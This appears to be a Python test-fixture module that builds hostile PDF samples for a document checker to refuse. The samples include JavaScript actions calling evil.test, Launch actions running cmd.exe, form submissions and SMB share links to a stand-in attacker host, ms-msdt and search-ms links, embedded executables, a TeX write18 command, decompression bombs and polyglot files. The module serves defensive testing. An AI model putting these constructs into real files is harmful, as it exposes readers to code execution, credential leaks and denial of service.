"""PDFs that are more than documents, by the reason for which each is refused."""

import zlib

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, Stream, String

from tests.documents import pdf
from tests.documents.pdf import annotated, attached, changed, flat, letter, linked, opening, script, to
from tests.internships import samples

GOTO = {"S": Name.GoTo, "D": Array([0, Name.Fit])}


def put(dictionary, entries: dict) -> None:
    for key, value in entries.items():
        dictionary[f"/{key}"] = value


def root(**entries) -> bytes:
    return changed(lambda made: put(made.Root, entries))


def page(**entries) -> bytes:
    return changed(lambda made: put(made.pages[0].obj, entries))


def loose(made: Pdf) -> None:
    """An object that the table knows and nothing leads to."""
    made.Root.Kept = made.make_indirect(Array([made.make_indirect(script())]))


def stream_script(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=Stream(made, b"app.launchURL('http://evil.test')"))


def field_script(made: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def outline_script(made: Pdf) -> None:
    item = made.make_indirect(Dictionary(Title=String("1"), A=script()))
    made.Root.Outlines = made.make_indirect(Dictionary(First=item, Last=item, Count=1))


def names_script(made: Pdf) -> None:
    leaf = made.make_indirect(Dictionary(Names=Array([String("a"), made.make_indirect(script())]), Limits=Array([])))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([leaf])))


def name_by_reference() -> bytes:
    return pdf.raw(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S 5 0 R /JS 6 0 R >> >>",
        *(pdf.PAGES, pdf.PAGE, b"<< /Length 0 >>\nstream\n\nendstream", b"/JavaScript", b"(app.alert)"),
    )


def updated() -> bytes:
    first = samples.pdf()
    return pdf.updated(first, 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert) >> >>")


def with_lost_table() -> bytes:
    content = flat(lambda made: put(made.Root, {"OpenAction": script()}))
    return content[: content.rindex(b"xref", 0, content.rindex(b"startxref"))] + b"startxref\n7\n%%EOF\n"


PROGRAMS = {
    "when it opens": lambda: opening(script()),
    "in object streams": lambda: opening(script(), object_stream_mode=ObjectStreamMode.generate),
    "linearized": lambda: opening(script(), linearize=True),
    "encrypted for everybody": lambda: opening(script(), encryption=Encryption(owner="x", user="", R=6)),
    "as a stream": lambda: changed(stream_script),
    "among the names": lambda: changed(names_script),
    "of a field": lambda: changed(field_script),
    "of an outline": lambda: changed(outline_script),
    "behind a link": lambda: linked(script()),
    "after a turn of the page": lambda: linked(Dictionary(**GOTO, Next=script())),
    "in a list of what comes next": lambda: linked(
        Dictionary(**GOTO, Next=Array([Dictionary(**GOTO), Dictionary(S=Name.Named, N=Name.NextPage, Next=script())]))
    ),
    "when the mouse comes near": lambda: annotated(Dictionary(Subtype=Name.Square, AA=Dictionary(E=script()))),
    "when a page is shown": lambda: page(AA=Dictionary(O=script())),
    "when it closes": lambda: root(AA=Dictionary(WC=script())),
    "with an escaped name": lambda: flat(lambda made: put(made.Root, {"OpenAction": script()})).replace(
        b"/JavaScript", b"/J#61v#61Scr#69pt"
    ),
    "without a kind, with an escaped key": lambda: flat(
        lambda made: put(made.Root, {"OpenAction": Dictionary(JS=String("app.alert"))})
    ).replace(b"/JS", b"/#4a#53"),
    "with its name elsewhere": name_by_reference,
    "in an update": updated,
    "in a file that has to be recovered": with_lost_table,
    "in an object that nothing leads to": lambda: changed(loose),
    "of a rendition": lambda: linked(Dictionary(S=Name.Rendition, JS=String("app.alert"))),
    "as an address": lambda: linked(to("javascript:alert(1)")),
    "as an address in disguise": lambda: linked(to(" JaVa\nScript:alert(1)")),
}


def external(entry: bytes) -> bytes:
    return pdf.page_with(b"", entry)


def reference(made: Pdf) -> None:
    form = Stream(made, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]))
    form.Ref = Dictionary(F=String("other.pdf"), Page=0)
    made.pages[0].Resources.XObject = Dictionary(X=form)


def remote(**entries) -> Dictionary:
    return Dictionary(S=Name.GoToR, D=Array([0, Name.Fit]), **entries)


REACHING = {
    "starts a program": lambda: linked(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "starts a program of Windows": lambda: opening(
        Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    ),
    "starts after a turn of the page": lambda: linked(
        Dictionary(**GOTO, Next=Dictionary(S=Name.Launch, F=Dictionary(Type=Name.Filespec, F=String("a.pdf"))))
    ),
    "goes into an attachment": lambda: linked(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf")))),
    "sends a form": lambda: linked(Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("//evil.test")))),
    "reads data into a form": lambda: linked(Dictionary(S=Name.ImportData, F=String("data.fdf"))),
    "goes to a share": lambda: linked(remote(F=String(r"\\evil.test\share\a.pdf"))),
    "goes to a share, said in a dictionary": lambda: linked(
        remote(F=Dictionary(Type=Name.Filespec, F=String("a.pdf"), UF=String("//evil.test/share/a.pdf")))
    ),
    "goes to a document of the web": lambda: linked(remote(F=String("http://evil.test/a.pdf"))),
    "goes to a document at an address": lambda: linked(remote(F=Dictionary(FS=Name.URL, F=String("a.pdf")))),
    "follows a thread on a share": lambda: linked(Dictionary(S=Name.Thread, D=0, F=String(r"\\evil.test\a.pdf"))),
    "links to a share": lambda: linked(to(r"\\evil.test\share")),
    "links to a share as a file": lambda: linked(to("file://evil.test/share/a.exe")),
    "links to a share with five slashes": lambda: linked(to("file://///evil.test/share")),
    "links to a share with percent signs": lambda: linked(to("file:%5C%5Cevil.test%5Cshare")),
    "links to a share of another kind": lambda: linked(to("SMB://evil.test/share")),
    "links to a share as a device": lambda: linked(to(r"\\?\UNC\evil.test\share")),
    "links to a program": lambda: linked(to("ms-msdt:/id PCWDiagnostic")),
    "links to a search of Windows": lambda: linked(to("search-ms:query=a&crumb=location:\\\\evil.test")),
    "links to a program on the disk": lambda: linked(to("file:///C:/Windows/System32/calc.exe")),
    "links to data": lambda: linked(to("data:text/html;base64,PHNjcmlwdD4=")),
    "has all links on a share": lambda: root(URI=Dictionary(Base=String(r"\\evil.test\share"))),
    "opens an address": lambda: opening(to("http://evil.test/")),
    "opens an address after a page": lambda: opening(Dictionary(**GOTO, Next=Array([to("http://evil.test/")]))),
    "opens another document": lambda: opening(remote(F=String("a.pdf"))),
    "asks an address for each page": lambda: page(AA=Dictionary(O=to("http://evil.test/"))),
    "asks when a note is seen": lambda: annotated(
        Dictionary(Subtype=Name.Square, AA=Dictionary(PV=to("http://e.test")))
    ),
    "has its content elsewhere": lambda: external(b"/F (http://evil.test/page)"),
    "has its content elsewhere, in a dictionary": lambda: external(b"/F << /FS /URL /F (http://evil.test/page) >>"),
    "shows a page of another file": lambda: changed(reference),
}


def portfolio(made: Pdf) -> None:
    attached(letter(), "inside.pdf", "/application/pdf")(made)
    made.Root.Collection = Dictionary(Type=Name.Collection)


def pinned(made: Pdf) -> None:
    file = Dictionary(Type=Name.Filespec, F=String("a.txt"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=file)
    made.pages[0].Annots = Array([made.make_indirect(note)])


HOLDING = {
    "a program": lambda: changed(attached(b"MZ\x90\0", "cv.exe")),
    "a document": lambda: changed(attached(samples.docx(), "cv.docx")),
    "words": lambda: changed(attached(b"Dear reader", "a.txt", "/text/plain")),
    "a portfolio": lambda: changed(portfolio),
    "a note with a file": lambda: changed(pinned),
    "a program said to be a formula": lambda: changed(attached(b"MZ\x90\0<math>", "a.xml", "/application/mathml+xml")),
    "a formula with a script": lambda: changed(
        attached(b"<math><script>alert(1)</script></math>", "a.xml", "/application/mathml+xml")
    ),
    "TeX that writes": lambda: changed(attached(rb"$x$\immediate\write18{rm}", "a.tex", "/application/x-tex")),
    "a web page": lambda: changed(attached(b"<html><body>a</body></html>", "a.html", "/text/html")),
    "in object streams": lambda: changed(attached(b"PK", "a.zip"), object_stream_mode=ObjectStreamMode.generate),
}


def screen(made: Pdf) -> None:
    clip = Dictionary(S=Name.MCD, D=Dictionary(Type=Name.Filespec, F=String("film.mp4")))
    show = Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR, C=clip))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 9, 9]), A=show)
    made.pages[0].Annots = Array([made.make_indirect(note)])


MEDIA = {
    "film": lambda: changed(screen),
    "old film": lambda: annotated(Dictionary(Subtype=Name.Movie, Movie=Dictionary(F=String("a.avi")))),
    "sound": lambda: annotated(Dictionary(Subtype=Name.Sound)),
    "sound of an action": lambda: linked(Dictionary(S=Name.Sound)),
    "rich media": lambda: annotated(Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    "a model": lambda: annotated(Dictionary(Subtype=Name("/3D"))),
}
XFA = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'


def xfa_stream(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(made, XFA))


def xfa_pieces(made: Pdf) -> None:
    pieces = Array([String("preamble"), Stream(made, XFA[:30]), String("postamble"), Stream(made, XFA[30:])])
    made.Root.AcroForm = made.make_indirect(Dictionary(Fields=Array([]), XFA=pieces))


def many_objects() -> bytes:
    return pdf.raw(b"<< /Type /Catalog /Pages 2 0 R >>", pdf.PAGES, pdf.PAGE, *[b"null"] * 110_000)


TOO_COMPLEX = {
    "an object stream that unpacks to 1.5 GB": lambda: pdf.object_stream_bomb(1500),
    "an object stream that unpacks to 150 MB": lambda: pdf.object_stream_bomb(150),
    "a page that unpacks to 2 GB": lambda: pdf.page_with(pdf.white(2000), b"/Filter /FlateDecode"),
    "a page that is packed twice": lambda: pdf.page_with(
        zlib.compress(pdf.white(50)), b"/Filter [/FlateDecode /FlateDecode]"
    ),
    "110,000 objects": many_objects,
}


def archive_with_trailer() -> bytes:
    """A whole archive whose comment is the end of the PDF."""
    made = samples.pdf()
    inside = samples.archive({"cv.exe": b"MZ"})
    end = b"\n%%EOF\n"
    return made + inside[:-2] + len(end).to_bytes(2, "little") + end


TWO_TYPES = {
    "a web page before": lambda: b"<html><script>alert(1)</script>\n" + letter(),
    "a web page in a comment": lambda: letter().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<script>alert(1)</script>\n"),
    "a program before": lambda: b"MZ\x90\0" + b"\0" * 200 + letter(),
    "a shell script before": lambda: b"#!/bin/sh\nexit\n" + letter(),
    "an archive behind": lambda: letter() + samples.archive({"cv.exe": b"MZ"}),
    "an archive around the end": archive_with_trailer,
    "a web page behind": lambda: letter() + b"<html><script>alert(1)</script>",
}
DAMAGED = {
    "a header": lambda: b"%PDF-1.7\n",
    "a header and an end": lambda: b"%PDF-1.7\n%%EOF\n",
    "half a file": lambda: letter()[: len(letter()) // 2],
    "no end": lambda: letter()[: letter().rindex(b"%%EOF")],
    "chatter before": lambda: b"GPL Ghostscript 9.5: done\n" + letter(),
    "no pages in it": lambda: letter().replace(b"/Pages", b"/Pagen"),
    "a page that is its own parent's parent": lambda: pdf.raw(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    ),
}


def without_pages(made: Pdf) -> None:
    del made.pages[0]


HOSTILE = {
    "programs": PROGRAMS,
    "reaches_out": REACHING,
    "holds_files": HOLDING,
    "media": MEDIA,
    "xfa": {"a stream": lambda: changed(xfa_stream), "pieces": lambda: changed(xfa_pieces)},
    "protected": {
        "AES-256": lambda: changed(encryption=Encryption(owner="o", user="u", R=6)),
        "AES-128": lambda: changed(encryption=Encryption(owner="o", user="u", R=4)),
        "RC4": lambda: changed(encryption=Encryption(owner="o", user="u", R=3, aes=False, metadata=False)),
    },
    "no_pages": {"none": lambda: changed(without_pages)},
    "too_long": {"51 pages": lambda: letter(51)},
    "too_complex": TOO_COMPLEX,
    "two_types": TWO_TYPES,
    "damaged": DAMAGED,
}
